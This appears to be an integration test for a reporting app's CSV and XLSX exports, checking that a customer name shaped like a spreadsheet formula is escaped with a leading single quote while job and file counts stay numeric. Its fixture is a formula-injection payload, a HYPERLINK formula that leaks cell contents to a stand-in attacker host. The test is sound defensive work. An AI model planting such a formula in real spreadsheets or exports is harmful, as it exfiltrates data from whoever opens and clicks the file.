// Exports against the real provider: a customer named like a spreadsheet formula is written as
// text in CSV and XLSX (a leading single quote, OWASP's advice), its figures stay numbers
// (docs/decisions/realtime-door.md, "Exports"). The export code is the app's own
// (lib/server/report-export.ts), fed by the provider as the export route feeds it.
import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { after, before, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import { studioDay } from '../../domain/studio-time';
import { providerText } from '../../graphql/provider-text';
import { customerRevenueReport } from '../../lib/reports/customer-revenue';
import type { Requester } from '../../lib/reports/definition';
import { exportStream, type ExportFormat } from '../../lib/server/report-export';
import { customers } from '../../provider/src/db/schema';
import { startTaskWorld, type TaskWorld } from './tasks-support';

const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")';
const PLAIN_NAME = 'Khách Bình Thường';

let w: TaskWorld;
before(async () => {
  w = await startTaskWorld();
  // One job completed this month for each customer, through the real workflow.
  for (const name of [FORMULA_NAME, PLAIN_NAME]) {
    const [customer] = await w.p.db.insert(customers).values({ name, active: true }).returning({ id: customers.id });
    let card = await w.create({ editorId: w.id.editor, qaId: w.id.qa, customerId: customer!.id, totalFile: 3 });
    for (const [status, as] of [['InProgress', 'editor'], ['WaitApprove', 'editor'], ['Completed', 'qa']] as const) {
      const moved = await w.move(card, status, as);
      assert.equal(moved.errors, undefined, JSON.stringify(moved.errors));
      card = moved.data!.move_task;
    }
  }
});
after(async () => w?.p.close());

const request: Requester = async (operation, variables) => {
  const result = await w.p.gql(providerText(operation), variables as Record<string, unknown>, { token: w.token.admin });
  if (result.errors) throw new Error(JSON.stringify(result.errors));
  return result.data as never;
};

async function exported(format: ExportFormat): Promise<Buffer> {
  const today = studioDay();
  const filter = { startDate: `${today.slice(0, 8)}01`, endDate: today };
  const params = new URLSearchParams();
  const first = await customerRevenueReport.load(request, filter, params, null, 'export');
  const chunks: Buffer[] = [];
  const sink = new Writable({
    write(chunk, _encoding, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  await pipeline(exportStream(format, { definition: customerRevenueReport, request, filter, params, first }), sink);
  return Buffer.concat(chunks);
}

describe('a customer named like a formula, exported', () => {
  it('CSV: the name starts with a single quote; the plain name and the numbers are as they were', async () => {
    const lines = (await exported('csv')).toString('utf8').replace('\ufeff', '').trim().split('\n');
    const formula = lines.find((line) => line.includes('HYPERLINK'));
    assert.ok(formula, lines.join('\n'));
    // csv-stringify quotes the field (it holds quotes and a comma): "'=HYPERLINK(""http…
    assert.ok(formula.startsWith(`"'=HYPERLINK(`), formula);
    assert.match(formula, /,1,3,/);
    const plain = lines.find((line) => line.startsWith(PLAIN_NAME));
    assert.ok(plain, lines.join('\n'));
  });

  it('XLSX: the same name is a quoted string cell, never a formula; jobs and files are numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported('xlsx')) as unknown as ArrayBuffer);
    const rows: unknown[][] = [];
    workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    const formula = rows.find((row) => String(row[0]).includes('HYPERLINK'))!;
    assert.equal(formula[0], `'${FORMULA_NAME}`);
    assert.deepEqual(formula.slice(1, 3), [1, 3]);
    assert.ok(rows.some((row) => row[0] === PLAIN_NAME));
  });
});
